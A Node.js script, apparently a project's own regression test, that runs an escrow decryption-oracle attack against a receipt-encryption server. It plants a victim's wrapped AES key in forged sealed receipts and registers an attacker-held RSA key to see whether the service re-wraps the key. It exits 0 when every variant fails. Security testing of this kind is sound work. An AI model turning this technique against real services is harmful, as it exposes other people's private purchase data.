#!/usr/bin/env node
/**
 * The escrow-oracle attack (issue 31, item 2), from outside, against a running server: a stranger who
 * holds one stored escrow envelope (a database copy, a backup, a logged encrypt response) plus one
 * merchant key and one issuer key of their own tries to make the service unwrap its AES key for them.
 *
 *   ADMIN_TOKEN=... node scripts/attacks/escrow-oracle.mjs [baseUrl]
 *
 * The operator token only sets the scene (three API keys for three tenants: the victim's shop, the
 * attacker's shop and the attacker's bank); the attack itself uses the attacker's keys alone. Three
 * variants are tried: the victim's wrapped key with made-up ciphertext, the victim's wrapped key with
 * the victim's own ciphertext under the attacker's receipt ids, and each of the two claiming the AAD
 * binding (`keyBundle.aadBound`).
 * Exit code 0 when every variant failed to recover the plaintext, 1 when one succeeded, 2 on a setup
 * error. WebCrypto and fetch only.
 */

const baseUrl = process.argv[2] ?? process.env.RECEIPTS_URL ?? "http://127.0.0.1:8080";
const adminToken = process.env.ADMIN_TOKEN ?? "";
const subtle = globalThis.crypto.subtle;
const run = crypto.randomUUID().slice(0, 8);

const b64 = (bytes) => Buffer.from(bytes).toString("base64");
const unb64 = (text) => new Uint8Array(Buffer.from(text, "base64"));
const random = (n) => crypto.getRandomValues(new Uint8Array(n));
const hex64 = () => Buffer.from(random(32)).toString("hex");

async function call(method, path, headers, body) {
  const res = await fetch(`${baseUrl}${path}`, {
    method,
    headers: { ...(body === undefined ? {} : { "content-type": "application/json" }), ...headers },
    ...(body === undefined ? {} : { body: JSON.stringify(body) }),
  });
  return { status: res.status, body: await res.json() };
}

async function apiKey(tenant, role) {
  const res = await call(
    "POST",
    "/admin/v1/api-keys",
    { authorization: `Bearer ${adminToken}` },
    { tenant, role, tier: "enterprise" },
  );
  if (res.status !== 200) throw new Error(`creating a ${role} key: ${JSON.stringify(res.body)}`);
  return res.body.data.apiKey;
}

const as = (key) => ({
  post: (path, body) => call("POST", path, { "x-api-key": key }, body),
  get: (path) => call("GET", path, { "x-api-key": key }),
});

/** The AAD of a receipt identity. */
const aadOf = (r) =>
  new TextEncoder().encode([r.version, r.receiptId, r.merchantId, r.transactionId].join("\n"));

/** One attempt: plant a receipt around the stolen key bundle, register the made-up card, read what comes back. */
async function attempt(name, stolen, mallory, variant) {
  const card = hex64();
  const fake = {
    version: "1.0",
    receiptId: `fake-${run}-${name}`,
    merchantId: `mallory-${run}`,
    transactionId: `t-${run}-${name}`,
  };
  const bundle = {
    keyId: stolen.keyBundle.keyId,
    algorithm: stolen.keyBundle.algorithm,
    encryptedAesKey: stolen.keyBundle.encryptedAesKey,
    ...(variant.claimBinding ? { aadBound: true } : {}),
  };
  const sealed = await mallory.shop.post("/api/v1/receipts/sealed", {
    recipientHashedPan: card,
    ...fake,
    keyBundle: bundle,
    ciphertext: variant.victimCiphertext ? stolen.ciphertext : b64(random(64)),
    iv: variant.victimCiphertext ? stolen.iv : b64(random(12)),
    authTag: variant.victimCiphertext ? stolen.authTag : b64(random(16)),
  });
  const report = { name, plant: `${sealed.status} ${sealed.body.error?.code ?? "stored"}` };
  if (sealed.status !== 200) return { ...report, recovered: false };

  const pair = await subtle.generateKey(
    { name: "RSA-OAEP", modulusLength: 2048, publicExponent: new Uint8Array([1, 0, 1]), hash: "SHA-256" },
    true,
    ["encrypt", "decrypt"],
  );
  const spki = b64(await subtle.exportKey("spki", pair.publicKey));
  const reg = await mallory.bank.post("/api/v1/onboarding/register", {
    hashedPan: card,
    publicKey: spki,
    keyId: crypto.randomUUID(),
  });
  if (reg.status !== 200) throw new Error(`register: ${JSON.stringify(reg.body)}`);
  Object.assign(report, {
    releasedReceipts: reg.body.data.releasedReceipts,
    heldReceipts: reg.body.data.heldReceipts,
  });
  const listing = await mallory.bank.get(`/api/v1/receipts/${reg.body.data.userId}`);
  const mine = listing.body.data.receipts.find((r) => r.receiptId === fake.receiptId);
  if (mine === undefined || mine.isEscrowed) return { ...report, recovered: false };
  try {
    const rsa = { name: "RSA-OAEP", hash: "SHA-256" };
    const raw = await subtle.decrypt(rsa, pair.privateKey, unb64(mine.keyBundle.encryptedAesKey));
    const aes = await subtle.importKey("raw", raw, "AES-GCM", false, ["decrypt"]);
    const plain = await subtle.decrypt(
      { name: "AES-GCM", iv: unb64(stolen.iv), additionalData: aadOf(stolen) },
      aes,
      new Uint8Array([...unb64(stolen.ciphertext), ...unb64(stolen.authTag)]),
    );
    return { ...report, recovered: true, plaintext: new TextDecoder().decode(plain) };
  } catch (err) {
    return { ...report, recovered: false, why: String(err) };
  }
}

async function main() {
  if (adminToken === "") {
    console.error("ADMIN_TOKEN must be set to create the three tenants' API keys");
    process.exit(2);
  }
  const victimShop = as(await apiKey(`victim-shop-${run}`, "merchant"));
  const mallory = {
    shop: as(await apiKey(`mallory-shop-${run}`, "merchant")),
    bank: as(await apiKey(`mallory-bank-${run}`, "issuer")),
  };

  // The victim's receipt, for a card nobody has registered: escrowed to the service escrow key. Its
  // encrypt response is what a log, a backup or a database copy holds.
  const encrypted = await victimShop.post("/api/v1/receipts/encrypt", {
    receiptId: `victim-${run}`,
    merchantId: `victim-${run}`,
    merchantName: "Pharmacy on the corner",
    transactionId: `vt-${run}`,
    transactionDate: new Date().toISOString(),
    currency: "EUR",
    recipientHashedPan: hex64(),
    items: [{ lineItemId: "1", name: "Something private", quantity: 1, unitPrice: 4200, totalPrice: 4200 }],
    totalAmount: 4200,
  });
  if (encrypted.status !== 200) throw new Error(`victim encrypt: ${JSON.stringify(encrypted.body)}`);
  const stolen = encrypted.body.data;
  console.log(
    `victim receipt ${stolen.receiptId}: escrowed=${stolen.isEscrowed} to ${stolen.keyBundle.keyId}` +
      ` (${stolen.keyBundle.algorithm}${stolen.keyBundle.aadBound ? ", AAD-bound" : ""})`,
  );

  const results = [
    await attempt("garbage", stolen, mallory, { victimCiphertext: false, claimBinding: false }),
    await attempt("victim-ciphertext", stolen, mallory, { victimCiphertext: true, claimBinding: false }),
    await attempt("claims-binding", stolen, mallory, { victimCiphertext: false, claimBinding: true }),
    await attempt("victim-ciphertext-claims-binding", stolen, mallory, {
      victimCiphertext: true,
      claimBinding: true,
    }),
  ];
  for (const r of results) {
    const { plaintext, ...rest } = r;
    console.log(JSON.stringify(rest));
    if (plaintext !== undefined) console.log(`  RECOVERED PLAINTEXT: ${plaintext}`);
  }
  const won = results.some((r) => r.recovered);
  console.log(
    won ? "ATTACK SUCCEEDED: the escrow key is a decryption oracle" : "attack failed: nothing recovered",
  );
  process.exit(won ? 1 : 0);
}

main().catch((err) => {
  console.error(err);
  process.exit(2);
});
